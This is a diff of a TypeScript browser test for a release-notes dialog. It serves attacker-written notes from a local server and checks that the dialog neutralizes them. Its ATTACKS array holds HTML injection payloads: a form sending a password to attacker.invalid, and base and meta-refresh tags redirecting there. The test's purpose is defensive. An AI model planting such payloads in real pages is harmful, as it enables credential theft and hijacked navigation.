@@ -23,20 +23,26 @@ const ATTACKS = [
   '<form action="https://attacker.invalid/"><input name="password"><button>send</button></form>',
   '<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
 ];
-const notes = { data: [{ date: '2026-11-20', content: ['<h2>Mapa mais rápido</h2><p>As frotas abrem <strong>na hora</strong>.</p>', ...ATTACKS] }, { date: '2026-01-01', content: ['<p>Velha</p>'] }] };
+const NEWS = '<h2>Mapa mais rápido</h2><p>As frotas abrem <strong>na hora</strong>, e <a href="https://example.com/notas">mais</a>.</p><ul><li>Um</li></ul>';
+const notesOf = (content: readonly string[]) => JSON.stringify({ data: [{ date: '2026-11-20', content }, { date: '2026-01-01', content: ['<p>Velha</p>'] }] });
 
 let repository: Server;
 let house: NewsHouse;
+/** The same, whose notes were written by an attacker. */
+let attacked: NewsHouse;
 let browser: Browser;
 beforeAll(async () => {
-  repository = createServer((_, reply) => reply.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(notes)));
+  repository = createServer(({ url }, reply) => reply.writeHead(200, { 'content-type': 'application/json' }).end(notesOf(url === '/attacked' ? ATTACKS : [NEWS])));
   await new Promise<void>((resolve) => repository.listen(0, '127.0.0.1', resolve));
-  house = await openNewsHouse({ RELEASE_NOTES_URL: `http://127.0.0.1:${(repository.address() as AddressInfo).port}/notes.json` });
+  const origin = `http://127.0.0.1:${(repository.address() as AddressInfo).port}`;
+  house = await openNewsHouse({ RELEASE_NOTES_URL: `${origin}/notes` });
+  attacked = await openNewsHouse({ RELEASE_NOTES_URL: `${origin}/attacked` });
   browser = await launchBrowser();
 });
 afterAll(async () => {
   await browser?.close();
   await house?.close();
+  await attacked?.close();
   repository?.close();
 });
 
@@ -49,7 +55,7 @@ const dialogOf = (page: Page) => page.getByRole('dialog', { name: /Novidades|Wha
 
 test('the newest release note is shown at the start, on the indicators where staff land, until the person does not want it again (PSH-17, PSH-18, IND-08)', async () => {
   const { page, close } = await open('operador');
-  await page.goto(`${house.url}/monitoring/indicators`);
+  await page.waitForURL(/\/indicators$/);
   const dialog = dialogOf(page);
   await dialog.waitFor();
   expect(await dialog.innerText()).toContain('20 de novembro de 2026');
@@ -73,7 +79,7 @@ test('the newest release note is shown at the start, on the indicators where sta
 }, 120_000);
 
 test('nothing of a note runs, calls out, leads astray or changes the page (PSH-28)', async () => {
-  const { page, context, close } = await open('cliente');
+  const { page, context, close } = await open('cliente', {}, attacked.url);
   const asked: string[] = [];
   context.on('request', (request) => asked.push(request.url()));
   const dialog = dialogOf(page);
@@ -89,8 +95,9 @@ test('nothing of a note runs, calls out, leads astray or changes the page (PSH-2
   expect([found.forbidden, found.attributes]).toEqual([0, []]);
   expect(found.links.filter(([, href]) => href !== null)).toEqual([['changes', 'https://example.com/changes', 'noopener noreferrer', '_blank']]);
   expect(asked.filter((url) => url.includes('invalid'))).toEqual([]);
-  expect(new URL(page.url()).origin).toBe(house.url);
-  await close();
+  expect(new URL(page.url()).origin).toBe(attacked.url);
+  // The browser says that it keeps the attacker's style and base from applying while the note is taken apart.
+  await close(/Applying inline style|document's base URI/);
 }, 120_000);
 
 test.each([
